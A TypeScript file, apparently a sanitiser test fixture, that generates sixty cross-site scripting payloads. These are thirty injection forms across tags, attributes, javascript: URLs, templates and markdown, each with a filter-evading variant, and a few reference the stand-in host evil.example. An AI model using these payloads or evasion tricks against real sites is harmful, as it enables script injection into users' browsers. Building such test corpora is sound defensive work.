/** Texts that run as a script where somebody forgets that they are text. */

/** What runs is always the same, so that one look at the page tells. */
const RUN = 'alert(window.broken=1)';

const FORMS: readonly ((run: string) => string)[] = [
  (run) => `<script>${run}</script>`,
  (run) => `</title><script>${run}</script>`,
  (run) => `</textarea><script>${run}</script>`,
  (run) => `<img src=x onerror=${run}>`,
  (run) => `<svg onload=${run}>`,
  (run) => `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  (run) => `<iframe srcdoc="<script>parent.${run}</script>">`,
  (run) => `<iframe src="javascript:parent.${run}">`,
  (run) => `<details open ontoggle=${run}>`,
  (run) => `<input autofocus onfocus=${run}>`,
  (run) => `<a href="javascript:${run}">free</a>`,
  (run) => `"><img src=x onerror=${run}>`,
  (run) => `' onmouseover='${run}' x='`,
  (run) => `javascript:${run}`,
  (run) => `data:text/html,<script>${run}</script>`,
  (run) => `<object data="javascript:${run}">`,
  (run) => `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  (run) => `<style>@import 'https://evil.example/${run}'</style>`,
  (run) => `<link rel=stylesheet href=https://evil.example/${run}>`,
  (run) => `<base href="https://evil.example/">${run}`,
  (run) => `{{constructor.constructor('${run}')()}}`,
  (run) => `\${${run}}`,
  (run) => `[free](javascript:${run})`,
  (run) => `![x](https://evil.example/x.png"onerror="${run})`,
  (run) => `<math><mtext><img src=x onerror=${run}></mtext></math>`,
  (run) => `<video><source onerror=${run}></video>`,
  (run) => `</script><script>${run}</script>`,
  (run) => `<!--><img src=x onerror=${run}>-->`,
  (run) => `<body onload=${run}>`,
  (run) => `<form action=javascript:${run}><button>Book</button></form>`,
];

/** Sixty: each form as it is, and once more in disguise. */
export function hostileTexts(): string[] {
  const disguised = (text: string) => text.replaceAll('script', 'scr\tipt').replaceAll('on', 'oN');
  return FORMS.flatMap((form) => [form(RUN), disguised(form(RUN))]);
}
